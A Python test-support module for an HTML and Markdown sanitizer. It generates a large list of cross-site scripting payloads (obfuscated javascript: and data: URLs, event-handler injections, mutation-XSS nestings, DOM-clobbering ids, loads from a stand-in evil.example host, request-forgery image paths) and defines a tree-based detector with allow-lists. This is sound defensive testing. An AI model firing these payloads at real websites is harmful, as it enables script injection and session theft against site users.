"""Markup that wants to run, load or disguise something, and a detector that reads it as a browser does: as a tree."""

import re
from html.parser import HTMLParser
from itertools import product
from urllib.parse import urlsplit

from core.sanitize import FIGURE_SIZES

SCRIPT = "alert(1)"
_ADDRESSES = [
    f"javascript:{SCRIPT}",
    f"JaVaScRiPt:{SCRIPT}",
    f"java\tscript:{SCRIPT}",
    f"java\nscript:{SCRIPT}",
    f" \x01javascript:{SCRIPT}",
    f"&#106;avascript:{SCRIPT}",
    f"&#x6A;avascript&colon;{SCRIPT}",
    f"javascript&#58;{SCRIPT}",
    f"javascript://example.com/%0a{SCRIPT}",
    f"vbscript:{SCRIPT}",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "blob:https://example.com/1",
    "feed:javascript:alert(1)",
    "//evil.example/x",
    "/\\evil.example/x",
    "\\\\evil.example/x",
]
_LOADING = [
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    '<a id="fn1" class="footnote-backref" href="{}">x</a>',
    '<img src="{}">',
    '<img alt="" SRC = "{}" loading="lazy">',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x</button></form>',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<object data="{}"></object>',
    '<base href="{}">',
    '<meta http-equiv="refresh" content="0;url={}">',
    '<link rel="stylesheet" href="{}">',
    '<blockquote cite="{}">x</blockquote>',
]
_TAGS = [
    "img src=x",
    "svg",
    "body",
    "details open",
    "video src=x",
    "a href='https://a.b'",
    "p",
    "em",
    "blockquote class=pull",
    "figure",
    "sup",
    "marquee",
    "x",
]
_HANDLERS = [
    "onerror=alert(1)",
    "onload='alert(1)'",
    'ONCLICK="alert(1)"',
    "onfocus=alert`1` autofocus tabindex=1",
    "ontoggle\n=\nalert(1)",
    "style=animation-name:x onanimationstart=alert(1)",
]
_SEPARATORS = [" ", "/", "\n", "\t"]
_WHOLE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<style>@import '//evil.example/x.css'</style>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<input autofocus onfocus=alert(1)>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<p id=location>x</p>",
    "<li id=cookie>x</li>",
    "<section class=site-header>x</section>",
    "<img src=https://evil.example/pixel.gif>",
    "<img src=/media/../accounts/logout/>",
    "<img src=/media/%2e%2e/accounts/>",
    "<img src=/settings/privacy/>",
    "<img srcset='https://evil.example/x 2x'>",
    "<picture><source srcset=//evil.example/x></picture>",
    "<a href=https://a.b target=_blank ping=//evil.example>x</a>",
    "<video poster=//evil.example/x></video>",
    "<embed src=//evil.example/x.swf>",
    "<html><body onload=alert(1)>",
]

PAYLOADS = [
    *(template.format(address) for template, address in product(_LOADING, _ADDRESSES)),
    *(f"<{tag}{separator}{handler}>" for tag, handler, separator in product(_TAGS, _HANDLERS, _SEPARATORS)),
    *_WHOLE,
]

MARKDOWN_PAYLOADS = [
    template.format(address)
    for address in (
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        "vbscript:alert(1)",
        "data:text/html,<b>x",
        "javascript&colon;alert(1)",
        "//evil.example/x",
    )
    for template in (
        "[x]({})",
        "[x](<{}>)",
        "![x]({})",
        "[x]: {}\n\n[x]",
        '![x]({} "caption")',
        "<{}>",
        "> [x]({})",
        "[^1]\n\n[^1]: [x]({})",
    )
] + [
    '![x](/media/a.jpg "\\"><img src=x onerror=alert(1)>")',
    '![" onerror="alert(1)](/media/a.jpg)',
    '[x](https://a.b/"onclick="alert(1))',
    '![x](/media/a.jpg"onerror=alert(1))',
    "[x](https://a.b '\" onmouseover=alert(1)')",
    '<https://a.b/"onclick=alert(1)>',
    'https://a.b/"onclick=alert(1)//',
    "https://a.b/'><script>alert(1)</script>",
    "*<img src=x onerror=alert(1)>*",
    '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x',
]

ESSAY = {
    "p": ("class",), "h2": ("class",), "h3": (), "em": (), "strong": (), "ul": (), "br": (), "figure": (), "figcaption": (),
    "a": ("href", "rel", "id", "class", "role", "aria-label"), "ol": ("start", "class"), "li": ("id", "class"),
    "blockquote": ("class",), "hr": (), "img": ("src", "alt", "width", "height", "loading"), "sup": ("class",),
    "section": ("class", "role"), "picture": (), "source": ("type", "srcset", "sizes"),
}  # fmt: skip
COMMENT = {"p": (), "br": (), "em": (), "blockquote": (), "a": ("href", "rel")}
_VALUES = {"image/avif", "image/webp", FIGURE_SIZES}
_VALUES |= {"pull", "verse", "footnote-ref", "footnote-backref", "footnote-item", "footnotes", "footnotes-list"}
_VALUES |= {"footnotes-title", "doc-noteref", "doc-backlink", "doc-endnotes"}


class _Tree(HTMLParser):
    def __init__(self, allowed):
        super().__init__()
        self.allowed, self.faults = allowed, []

    def handle_starttag(self, tag, attrs):
        if tag not in self.allowed:
            self.faults.append(tag)
        self.faults += [f"{tag} {name}={value}" for name, value in attrs if self.is_fault(tag, name, value or "")]

    def is_fault(self, tag, name, value):
        if name not in self.allowed.get(tag, ()):
            return True
        match name:
            case "href":
                return leads_astray(value)
            case "srcset":
                return not re.fullmatch(r"/media/pictures/[\w-]+\.\w+ \d+w(, /media/pictures/[\w-]+\.\w+ \d+w)*", value)
            case "src":
                return not re.match("/(media|pictures|static)/", value) or ".." in value or "%2e" in value.lower()
            case "id":
                return not re.fullmatch(r"fn(ref)?\d+(:\d+)?", value)
            case _:
                return name in {"class", "role", "type", "sizes"} and value not in _VALUES

    def handle_comment(self, data):
        self.faults.append(f"comment {data}")

    def handle_decl(self, decl):
        self.faults.append(f"declaration {decl}")


def leads_astray(address):
    """As a browser reads it: control characters and spaces around go, tabs and line ends anywhere, \\ is /."""
    address = re.sub("[\t\r\n]", "", address.strip("".join(map(chr, range(33))))).replace("\\", "/")
    return address.startswith("//") or urlsplit(address).scheme not in ("", "http", "https", "mailto")


def faults_in(html, allowed):
    """Return every tag, attribute and address in the HTML that is not allowed there."""
    tree = _Tree(allowed)
    tree.feed(html)
    tree.close()
    return tree.faults
